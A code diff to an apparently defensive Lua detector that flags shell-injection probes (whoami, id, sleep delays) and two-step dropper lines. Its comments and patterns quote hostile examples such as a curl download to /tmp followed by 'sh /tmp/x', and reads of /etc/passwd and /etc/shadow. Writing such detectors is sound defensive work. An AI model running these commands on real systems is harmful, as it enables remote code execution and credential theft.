@@ -2377,24 +2377,41 @@ end
 -- with no arguments reads nothing and writes nowhere; but a probe's name
 -- among them ("x | whoami | y") still counts. a: where the list's first
 -- word starts.
+-- (or each word with a number after it, a count's or a reading's list,
+-- "oyster 112 | shiitake 80 | ss 2": a number is no argument those
+-- commands take; but a delay given one, "| sleep 4 |", is a probe's)
 local CHOICE = "^([\"']?)([%w_.-]+)%1[ \t]+|[ \t]+"
 local CHOICE_LAST = "^([\"']?)([%w_.-]+)%1[ \t]*"
+local CHOICE_NUM = "^([\"']?)([%w_.-]+)%1[ \t]+%d[%d.,]*[ \t]+|[ \t]+"
+local CHOICE_NUM_LAST = "^([\"']?)([%w_.-]+)%1[ \t]+%d[%d.,]*[ \t]*"
+local DELAYS = set([[sleep usleep ping timeout]])
 local function choice_list(s, a)
     local k, words = a, 0
     for _ = 1, 32 do
         local _, e, _, w = find(s, CHOICE, k)
+        local num = false
+        if not w then
+            _, e, _, w = find(s, CHOICE_NUM, k)
+            num = w ~= nil
+        end
         local last = w == nil
         if last then
             -- (the last one ends the line, or a type's or a list's
             -- member: ";", ",", ")", "}", "]" after it)
             _, e, _, w = find(s, CHOICE_LAST, k)
             local c = w and byte(s, e + 1)
+            if not (c == nil or c == 10 or c == 13 or c == 59 or c == 44
+                    or c == 41 or c == 125 or c == 93) then
+                _, e, _, w = find(s, CHOICE_NUM_LAST, k)
+                num = w ~= nil
+                c = w and byte(s, e + 1)
+            end
             if not w or not (c == nil or c == 10 or c == 13 or c == 59 or c == 44
                              or c == 41 or c == 125 or c == 93) then
                 return false
             end
         end
-        if LONE[w] or w == "id" then
+        if LONE[w] or w == "id" or (num and DELAYS[w]) then
             return false
         end
         if last then
@@ -2934,6 +2951,13 @@ end
 local RE_FETCH_RUN = [=[^\s*(?:wget|curl|fetch)\s[^`]*?\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}]=]
     .. [=[[^`]*?(?:\|\s*(?:ba|z|da)?sh\b|&&\s*(?:(?:ba|z|da)?sh|chmod)\s|;\s*(?:(?:ba|z|da)?sh]=]
     .. [=[|chmod)\s)]=]
+    -- (or from any host into a file of a temporary directory, then the
+    -- same file run or made executable, "`curl -o /tmp/x h.example/x &&
+    -- sh /tmp/x`": a dropper's two steps; an install line saves its
+    -- script where the reader works, "-o get.sh && sh get.sh")
+    .. [=[|^\s*(?:wget|curl|fetch)\s[^`]*?(?:-o|-O|>)\s*((?:/var)?/tmp/[^\s;&|`]+|/dev/shm/]=]
+    .. [=[[^\s;&|`]+)[^`]*?(?:;|&&|\|\|)\s*]=]
+    .. [=[(?:(?:ba|z|da)?sh\s+|chmod\s+\S+\s+|\.\s+)?\1(?=$|[\s;&|`])]=]
 
 -- A span that names a system's secret file ("`cat /etc/passwd`" after
 -- words, "print `cat /etc/shadow`;"): what a substitution reads out, no
